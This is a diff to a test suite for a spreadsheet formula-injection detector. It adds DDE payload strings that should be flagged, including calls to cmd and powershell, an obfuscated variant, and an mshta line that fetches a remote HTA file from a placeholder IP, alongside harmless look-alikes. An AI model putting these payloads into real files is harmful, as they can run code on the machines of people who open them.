@@ -15,6 +15,11 @@ suite('tables', () => {
     "x;@SUM(1)*wscript|'a.vbs'!A1\n",
     "=rundll32|'URL.dll,OpenURL calc.exe'!A\n",
     "a\t -2+3+mshta|'http://example.com'!A0\n",
+    'a;b\n1;=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A;x\n',
+    'a;b\n2;" +thespanishinquisition(cmd|\'/c mshta http://192.0.2.6/q.hta\'!A";y\n',
+    "a;b\n3;=    C    m D      |     '/   c    c  al  c  .  e   x  e  '   !   A;z\n",
+    "1,=REUTER|'IDN'!'X,1'+cmd|'/c calc'!A\n",
+    '1,"=cmd|\'/c powershell -c ""calc""\'!A1"\n',
     "name,note\nA,The order was sent to the customer.\nB,-2+cmd|' /C calc'!A0\nC,3\n",
     "id;text\n1;This is a long note of a clerk.\n2;=cmd|' /C calc'!A0\n",
   ]
@@ -48,6 +53,8 @@ suite('tables', () => {
     "=MSEXCEL|'book.xlsx'!A1\n",
     '=HYPERLINK("https://example.com/","a")\n',
     'a | b | c\n--|--\n',
+    "1;=REUTER|'IDN  '!'X,1';2\n",
+    "-a  !  b | c | 'd' ! e\n=A1 | 'x'  !A0\n",
     "Use =cmd in '!A1' carefully\n",
   ]
   for (const text of HARMLESS) test(`harmless: ${JSON.stringify(text)}`, () => assert.deepEqual(accusations(text), []))
